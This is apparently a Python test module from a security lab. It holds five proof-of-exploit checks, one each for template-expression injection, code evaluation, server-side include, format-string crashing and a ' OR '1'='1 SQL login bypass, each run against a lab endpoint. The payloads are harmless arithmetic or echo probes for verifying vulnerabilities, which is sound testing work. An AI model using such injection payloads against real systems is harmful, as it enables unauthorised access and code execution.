"""Exploits of values that are read as something else."""

import aiohttp

from lab.client import Lab


async def _expression(lab: Lab) -> bool:
    return "5535" in (await lab.get("/cards/greeting", to="${(123*45).toString()}")).text


async def _code(lab: Lab) -> bool:
    return "w5535w" in (await lab.get("/tools/reckon", width="chr(119)+str(123*45)+chr(119)")).text


async def _include(lab: Lab) -> bool:
    head = '<!--#set var="x" value="in" -->put<!--#echo var="x" -->side'
    return "putinside" in (await lab.get("/cards/letter", head=head)).text


async def _format(lab: Lab) -> bool:
    try:
        await lab.get("/tools/label", label="%n%s")
    except aiohttp.ClientConnectionError:
        return True
    return False


async def _bypass(lab: Lab) -> bool:
    return "second door" in (await lab.post("/parcels/enter", code="' OR '1'='1")).text


PROOFS = {
    "expression": _expression,
    "code": _code,
    "include": _include,
    "format-string": _format,
    "sqli-bypass": _bypass,
}
